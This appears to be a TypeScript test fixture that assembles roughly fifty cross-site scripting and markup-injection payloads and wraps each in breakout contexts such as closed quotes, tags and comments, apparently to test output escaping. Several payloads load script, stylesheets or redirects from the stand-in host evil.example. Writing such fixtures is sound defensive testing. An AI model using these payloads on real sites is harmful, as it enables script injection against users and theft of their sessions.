import { isLongRun } from './long-run.ts';

/*
 * Texts that run, fetch or break out wherever they are taken for markup. Each is short enough to be a name, and
 * none holds what a form cleans away: all of them are shown just as they were written.
 */

const acts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  "<script type=module>import'//evil.example/x'</script>",
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/x.png>',
  '<img/src=x/onerror=alert(1)//',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
  '<svg><a xlink:href=javascript:alert(1)><text>x',
  '<svg><foreignObject><body onload=alert(1)>',
  '<math href=javascript:alert(1)>x</math>',
  '<math><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href=//evil.example ping=//evil.example>x</a>',
  '<form action=javascript:alert(1)><button>x',
  '<button formaction=javascript:alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<x onclick=alert(1)>x</x>',
  '<x style="animation:x" onanimationstart=alert(1)>',
  '<div onpointerenter=alert(1)>x</div>',
  "<style>@import'//evil.example/x.css'</style>",
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  "{{constructor.constructor('alert(1)')()}}",
];

const surroundings = [
  (act: string) => act,
  (act: string) => `">${act}`,
  (act: string) => `'>${act}`,
  (act: string) => `</p>${act}`,
  (act: string) => `</textarea>${act}`,
  (act: string) => `</script>${act}`,
  (act: string) => `--><!-- ${act}`,
  (act: string) => `<${act}`,
  (act: string) => `سلام ${act} دنیا`,
  (act: string) => `x\n\n${act}`,
];

/** Every act in all surroundings. */
export const allMarkup: readonly string[] = acts.flatMap((act) =>
  surroundings.map((surround) => surround(act)),
);

/** Every second act in one of the surroundings each, all of which occur; in the long run every act in all. */
export const markup: readonly string[] = isLongRun
  ? allMarkup
  : acts
      .filter((_, at) => at % 2 === 0)
      .map((act, at) => surroundings[at % surroundings.length]?.(act) ?? act);
